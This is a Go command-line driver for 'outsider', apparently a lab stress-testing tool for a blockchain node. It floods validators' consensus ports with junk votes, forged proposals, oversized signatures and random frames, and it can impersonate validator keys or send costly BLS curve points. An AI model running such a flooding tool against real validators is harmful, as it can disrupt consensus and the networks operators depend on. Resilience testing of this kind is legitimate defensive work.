// Command outsider attacks the consensus port (33001) of validators as an outsider: a host that holds no
// validator key connects, speaks the handshake (as an observer, or claiming a key it does not hold) and floods
// each target with junk consensus messages (package flood). It runs until -duration is over or it gets SIGINT
// or SIGTERM, then writes its report as JSON on stdout and a summary on stderr.
//
//	outsider -targets 10.0.0.2:33001,10.0.0.3:33001 -votes 80 -catchup 10 -conns 4 -duration 30s
//
// Rates are messages per second on each connection; -conns connections go to each target at once.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"log/slog"
	"os"
	"os/signal"
	"slices"
	"strings"
	"syscall"
	"time"

	"chain33node/lab/flood"

	"github.com/libp2p/go-libp2p/gologshim"
)

func main() {
	var cfg flood.Config
	var rates [flood.NumKinds]*float64
	help := [flood.NumKinds]string{
		flood.Votes:     "junk votes per second: the target's height and round, random block hash, junk 96-byte signature",
		flood.LongSigs:  "junk votes per second with over-long signatures (-longsig-bytes)",
		flood.Catchup:   "catch-up requests per second: Status{height: 1}",
		flood.Status:    "status requests per second: Status at the target's height with empty bitmaps",
		flood.Proposals: "proposals per second for heights up to 300 ahead and rounds up to 1000, junk blocks of -block-bytes",
		flood.Garbage:   "frames of 1-4096 random bytes per second",
	}
	for k := range flood.NumKinds {
		rates[k] = flag.Float64(k.String(), 0, help[k]+", on each connection")
	}
	targets := flag.String("targets", "", "validators' consensus addresses, ip:port,ip:port (required)")
	flag.IntVar(&cfg.Conns, "conns", 1, "connections to each target at once, each a libp2p identity of its own")
	flag.StringVar(&cfg.Claim, "claim", "", `claim a validator key without holding it: "target" (the target's own), "random" (a fresh key), or a key in hex; empty: connect as an observer`)
	flag.BoolVar(&cfg.Points, "points", false, "junk vote signatures are valid BLS curve points (each costs the target a pairing) instead of random bytes")
	flag.DurationVar(&cfg.Redial, "redial", time.Second, "wait after a session ends or a dial fails")
	flag.IntVar(&cfg.LongSig, "longsig-bytes", 4096, "size of an over-long signature")
	flag.IntVar(&cfg.Block, "block-bytes", 64<<10, "payload bytes of a junk block")
	duration := flag.Duration("duration", 0, "how long to attack; 0 = until SIGINT or SIGTERM")
	verbose := flag.Bool("v", false, "log dials and session endings on stderr")
	flag.Parse()

	for _, t := range strings.Split(*targets, ",") {
		if t = strings.TrimSpace(t); t != "" {
			cfg.Targets = append(cfg.Targets, t)
		}
	}
	if len(cfg.Targets) == 0 || flag.NArg() > 0 {
		fmt.Fprintln(os.Stderr, "usage: outsider -targets ip:port[,ip:port...] [-votes N] [-catchup N] ... (outsider -h)")
		os.Exit(2)
	}
	for k, r := range rates {
		if *r < 0 {
			fmt.Fprintf(os.Stderr, "outsider: -%s %v: a rate is not negative\n", flood.Kind(k), *r)
			os.Exit(2)
		}
		cfg.Rates[k] = *r
	}
	if *verbose {
		cfg.Log = func(format string, a ...any) {
			fmt.Fprintf(os.Stderr, time.Now().Format("15:04:05.000 ")+format+"\n", a...)
		}
	} else {
		// libp2p logs every host it closes ("listener closed"); an outsider closes one per dial.
		gologshim.SetDefaultHandler(slog.DiscardHandler)
	}
	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGINT, syscall.SIGTERM)
	defer stop()
	if *duration > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, *duration)
		defer cancel()
	}
	rep, err := flood.Run(ctx, cfg)
	if err != nil {
		fmt.Fprintln(os.Stderr, "outsider:", err)
		os.Exit(2)
	}
	summary(rep)
	enc := json.NewEncoder(os.Stdout)
	enc.SetIndent("", "  ")
	if err := enc.Encode(rep); err != nil {
		fmt.Fprintln(os.Stderr, "outsider:", err)
		os.Exit(1)
	}
}

// summary writes one paragraph per target on stderr.
func summary(rep *flood.Report) {
	for _, t := range rep.Targets {
		var sent []string
		for k, n := range t.Sent {
			sent = append(sent, fmt.Sprintf("%s %d", k, n))
		}
		slices.Sort(sent)
		fate := "not cut off"
		if t.CutOff {
			fate = fmt.Sprintf("cut off (first at %.1f s)", t.FirstCutOff)
		}
		fmt.Fprintf(os.Stderr, "%s (chain %q, height %d) in %.0f s: sent %s (%.1f MB); received %d messages (%.1f MB); "+
			"%d dials, %d sessions (%.0f s connected), %d ended by the target, %d refused; %s\n",
			t.Addr, t.ChainID, t.Height, rep.Seconds, strings.Join(sent, ", "), float64(t.BytesSent)/1e6, t.MsgsReceived,
			float64(t.BytesReceived)/1e6, t.Dials, t.Sessions, t.Connected, t.EndedByTarget, t.Refused, fate)
		for _, e := range t.Endings {
			fmt.Fprintf(os.Stderr, "  ended %s\n", e)
		}
		if t.LastRefusal != "" {
			fmt.Fprintf(os.Stderr, "  last refusal: %s\n", t.LastRefusal)
		}
	}
}
